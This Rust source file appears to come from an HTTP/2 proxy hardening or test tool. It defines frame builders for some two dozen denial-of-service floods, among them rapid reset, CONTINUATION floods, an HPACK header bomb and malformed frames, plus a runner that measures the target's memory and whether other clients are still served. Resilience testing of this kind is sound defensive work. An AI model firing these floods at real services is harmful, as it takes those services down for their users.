//! Frames without an end: who is ended, what it costs, and that others are served meanwhile.

use std::{io::Write as _, sync::atomic::Ordering};

use super::{Client, head};
use crate::{
    attack::{
        endpoint::{HOLD, LARGE},
        neighbour::Neighbour,
        outcome::{Outcome, Reach},
        target::Target,
    },
    differential::http2::{
        hpack,
        link::{
            self, CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PADDED, PING, RST_STREAM,
            SETTINGS, WINDOW_UPDATE,
        },
    },
};

/// PRIORITY (RFC 9113, section 6.3) and a frame that there is not.
const PRIORITY: u8 = 2;
const UNKNOWN: u8 = 0xfa;
/// SETTINGS_INITIAL_WINDOW_SIZE (section 6.5.2) of nothing.
const NO_WINDOW: &[u8] = &[0, 4, 0, 0, 0, 0];
/// Frames between two looks at the connection.
const BATCH: usize = 64;
/// As much as one connection may make a proxy hold, in bytes. It is far above what any of them takes, so that a
/// busy machine makes no difference.
const MEMORY: u64 = 96 << 20;

/// An attack with one connection.
#[derive(Clone, Copy, Debug)]
pub(in crate::attack) struct Flood {
    pub(in crate::attack) name: &'static str,
    pub(in crate::attack) about: &'static str,
    settings: &'static [u8],
    /// The frames of a turn.
    frames: fn(usize) -> Vec<u8>,
    /// How many turns there are at most.
    turns: usize,
}

const fn flood(
    name: &'static str,
    about: &'static str,
    turns: usize,
    frames: fn(usize) -> Vec<u8>,
) -> Flood {
    Flood {
        name,
        about,
        settings: &[],
        frames,
        turns,
    }
}

#[rustfmt::skip]
pub(in crate::attack) const FLOODS: &[Flood] = &[
    flood("h2-rapid-reset", "requests that are taken back at once (CVE-2023-44487)", 20_000, |turn| {
        [request(turn, HOLD), link::write(RST_STREAM, 0, stream(turn), &8u32.to_be_bytes())].concat()
    }),
    flood("h2-made-you-reset", "requests that the proxy must reset (CVE-2025-8671)", 20_000, |turn| {
        [request(turn, HOLD), link::write(WINDOW_UPDATE, 0, stream(turn), &0u32.to_be_bytes())].concat()
    }),
    flood("h2-data-after-end", "bodies after requests that have ended", 20_000, |turn| {
        [request(turn, HOLD), link::write(DATA, END_STREAM, stream(turn), b"abc")].concat()
    }),
    flood("h2-continuations", "a head without an end, 16 KiB at a time", 4_000, |turn| match turn {
        0 => link::write(HEADERS, END_STREAM, 1, &head("GET", "/a")),
        _ => link::write(CONTINUATION, 0, 1, &hpack::encode([("x", &*"a".repeat(16_000))])),
    }),
    flood("h2-empty-continuations", "a head without an end, nothing at a time", 200_000, |turn| match turn {
        0 => link::write(HEADERS, END_STREAM, 1, &head("GET", "/a")),
        _ => link::write(CONTINUATION, 0, 1, &[]),
    }),
    Flood { settings: NO_WINDOW, ..flood("h2-bomb", "thousands of headers of a byte each, and no window for the answers (CVE-2026-47774)", 1_000, |turn| {
        // The first puts a header into the table; the others name it.
        let first: &[u8] = if turn == 0 { b"\x40\x01x\x01y" } else { &[] };
        let block = [&head("GET", HOLD), first, &vec![0xbe; 16_000]].concat();
        link::write(HEADERS, END_HEADERS | END_STREAM, stream(turn), &block)
    }) },
    Flood { settings: NO_WINDOW, ..flood("h2-crumbs", "a cookie in thousands of pieces, and no window for the answers", 1_000, |turn| {
        let first: &[u8] = if turn == 0 { b"\x60\x01c" } else { &[] };
        let block = [&head("GET", HOLD), first, &vec![0xbe; 1_500]].concat();
        link::write(HEADERS, END_HEADERS | END_STREAM, stream(turn), &block)
    }) },
    Flood { settings: NO_WINDOW, ..flood("h2-hosts", "Host thousands of times beside the authority (CVE-2026-73550)", 1_000, |turn| {
        let first: &[u8] = if turn == 0 { b"\x66\x01a" } else { &[] };
        let block = [&head("GET", HOLD), first, &vec![0xbe; 1_500]].concat();
        link::write(HEADERS, END_HEADERS | END_STREAM, stream(turn), &block)
    }) },
    flood("h2-empty-data", "a body of nothing, without an end (RUSTSEC-2026-0258)", 500_000, |turn| match turn {
        0 => link::write(HEADERS, END_HEADERS, 1, &head("POST", "/a")),
        _ => link::write(DATA, 0, 1, &[]),
    }),
    flood("h2-padding", "a body of padding alone", 20_000, |turn| match turn {
        0 => link::write(HEADERS, END_HEADERS, 1, &head("POST", "/a")),
        _ => link::write(DATA, PADDED, 1, &[&[255u8][..], &[0; 255]].concat()),
    }),
    flood("h2-pings", "pings", 500_000, |_| link::write(PING, 0, 0, b"flooding")),
    flood("h2-settings", "settings", 200_000, |_| link::write(SETTINGS, 0, 0, &[0, 4, 0, 1, 0, 0])),
    flood("h2-table-sizes", "settings that let the table grow and shrink", 200_000, |turn| {
        let size: u32 = if turn.is_multiple_of(2) { 0 } else { 1 << 30 };
        link::write(SETTINGS, 0, 0, &[&[0, 1][..], &size.to_be_bytes()].concat())
    }),
    flood("h2-priorities", "priorities of streams that there are not", 500_000, |turn| {
        link::write(PRIORITY, 0, stream(turn), &[0, 0, 0, 0, 1])
    }),
    flood("h2-unknown", "frames of a kind that there is not", 500_000, |_| link::write(UNKNOWN, 0, 0, b"flooding")),
    flood("h2-windows", "windows that grow by one at a time", 500_000, |_| {
        link::write(WINDOW_UPDATE, 0, 0, &1u32.to_be_bytes())
    }),
    flood("h2-window-overflow", "a window of more than 2^31 - 1", 2, |_| {
        link::write(WINDOW_UPDATE, 0, 0, &0x7fff_ffffu32.to_be_bytes())
    }),
    Flood { settings: NO_WINDOW, ..flood("h2-unread", "requests for large answers that nobody reads", 1_000, |turn| request(turn, LARGE)) },
    flood("h2-no-stream", "a body of no stream", 1, |_| link::write(DATA, 0, 0, b"abc")),
    flood("h2-even-stream", "a request on a stream of the proxy's own", 1, |_| {
        link::write(HEADERS, END_HEADERS | END_STREAM, 2, &head("GET", "/a"))
    }),
    flood("h2-old-stream", "a request on a stream before the last", 2, |turn| {
        link::write(HEADERS, END_HEADERS | END_STREAM, 3 - 2 * turn as u32, &head("GET", "/a"))
    }),
    flood("h2-bad-index", "a header at a place of the table that there is not", 1, |_| {
        link::write(HEADERS, END_HEADERS | END_STREAM, 1, &[0xff, 0xff, 0xff, 0xff, 0x0f])
    }),
    flood("h2-bad-padding", "more padding than the frame has", 1, |_| {
        link::write(HEADERS, END_HEADERS | END_STREAM | PADDED, 1, &[&[255u8][..], &head("GET", "/a")].concat())
    }),
    flood("h2-large-frame", "a frame of a megabyte", 1, |_| link::write(DATA, 0, 1, &vec![0; 1 << 20])),
];

fn stream(turn: usize) -> u32 {
    2 * turn as u32 + 1
}

fn request(turn: usize, path: &str) -> Vec<u8> {
    link::write(
        HEADERS,
        END_HEADERS | END_STREAM,
        stream(turn),
        &head("GET", path),
    )
}

impl Flood {
    /// Floods until it is ended or has said all; somebody else is served all the while. `part` of the turns
    /// are enough for a short try.
    pub(in crate::attack) fn run(
        &self,
        target: &mut Target,
        part: usize,
    ) -> anyhow::Result<Outcome> {
        let turns = if self.turns > BATCH {
            self.turns.div_ceil(part)
        } else {
            self.turns
        };
        let neighbour = Neighbour::start(target.plain)?;
        let before = target.memory()?;
        let mut client = Client::open(target.plain, self.settings)?;
        let mut done = 0;
        let mut is_taken = true;
        while done < turns && is_taken && !client.is_over() {
            let batch: Vec<u8> = (done..turns.min(done + BATCH))
                .flat_map(self.frames)
                .collect();
            is_taken = client.stream.write_all(&batch).is_ok();
            done = turns.min(done + BATCH);
        }
        client.settle();
        let after = if target.is_alive()? {
            target.memory()?
        } else {
            0
        };
        let is_ended =
            client.heard.ended.load(Ordering::SeqCst) || client.heard.away.load(Ordering::SeqCst);
        client.close();
        let served = neighbour.stop();
        let held = after.saturating_sub(before);
        let what = match (is_ended, is_taken) {
            (true, _) => "ended".to_owned(),
            (false, false) => "not read".to_owned(),
            (false, true) => format!("takes {done}"),
        };
        let reach = if is_ended {
            Reach::Refused
        } else {
            Reach::Bounded
        };
        let held_mib = held as f64 / f64::from(1 << 20);
        let slowest = served.slowest.as_millis();
        let told = format!("{what}, {held_mib:.1} MiB, others ≤ {slowest} ms");
        let mut outcome = Outcome::new(reach, told);
        let broken = &mut outcome.broken;
        if held > MEMORY {
            broken.push(format!("it holds {} MiB more", held >> 20));
        }
        broken.extend(target.broken(served.verdict())?);
        Ok(outcome)
    }
}
